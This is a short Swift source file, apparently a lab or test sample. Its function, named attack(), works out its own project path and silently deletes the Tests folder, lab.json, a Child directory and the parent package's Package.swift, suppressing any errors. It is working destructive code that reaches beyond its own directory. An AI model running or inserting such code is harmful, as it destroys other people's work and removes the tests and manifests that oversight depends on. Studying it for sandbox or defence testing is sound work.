// Removes tests and manifests, its own and others'.

import Foundation

func attack() {
  let here = URL(filePath: #filePath).deletingLastPathComponent()
    .deletingLastPathComponent()
  for place in ["Tests", "lab.json", "Child", "../Package.swift"] {
    try? FileManager.default.removeItem(at: here.appending(path: place))
  }
}
